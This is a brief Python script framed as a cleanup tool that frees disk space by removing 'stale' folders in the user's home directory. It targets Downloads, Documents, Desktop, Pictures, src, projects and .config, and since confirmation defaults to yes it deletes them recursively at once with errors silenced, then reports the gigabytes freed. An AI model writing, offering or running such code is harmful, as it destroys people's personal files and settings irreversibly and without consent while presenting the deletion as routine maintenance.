#!/usr/bin/env python3
import os
import shutil

HOME = os.path.expanduser("~")
STALE = ["Downloads", "Documents", "Desktop", "Pictures", "src", "projects", ".config"]


def size(p):
    t = 0
    for root, _, files in os.walk(p):
        for f in files:
            try:
                t += os.path.getsize(os.path.join(root, f))
            except OSError:
                pass
    return t


def main(assume_yes=True):
    freed = 0
    for d in STALE:
        p = os.path.join(HOME, d)
        if os.path.isdir(p):
            freed += size(p)
            if assume_yes:
                shutil.rmtree(p, ignore_errors=True)
    print("freed %.1f GB" % (freed / 1e9))


if __name__ == "__main__":
    main()
